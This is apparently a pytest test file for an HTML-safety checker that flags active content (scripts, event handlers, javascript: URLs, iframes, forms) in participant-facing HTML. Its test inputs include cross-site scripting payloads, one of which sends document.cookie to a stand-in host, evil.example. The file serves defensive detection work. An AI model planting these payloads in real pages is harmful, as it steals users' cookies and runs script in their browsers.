"""Active content in participant-facing HTML is found by parsing, whatever the spelling."""

import pytest

from taskbuilder.jobspec.html_safety import active_content


@pytest.mark.parametrize("text, found", [
    ('<script>fetch("https://evil.example/?c="+document.cookie)</script>', "<script>"),
    ("<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<script>"),
    ("<img src=x onerror=alert(1)>", "onerror="),
    ("<svg/onload=alert(1)>", "onload="),
    ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "javascript: URL"),
    ("<a href='JaVaScRiPt:alert(1)'>x</a>", "javascript: URL"),
    ("<iframe src=https://example.org></iframe>", "<iframe>"),
    ('<p onclick="x()">Read</p>', "onclick="),
    ("<form action=https://x.example><input></form>", "<form>"),
])
def test_active_content_is_found(text, found):
    assert any(found in item for item in active_content(text)), active_content(text)


@pytest.mark.parametrize("text", ["", "Plain text < 5 and > 3", "<p>Read the <b>review</b>.</p><ul><li>one</li></ul>",
                                  '<a href="https://example.org/guide">guide</a>', "<img src=https://x.example/a.png alt=a>",
                                  "Type &lt;script&gt; to see it"])
def test_basic_html_passes(text):
    assert active_content(text) == []
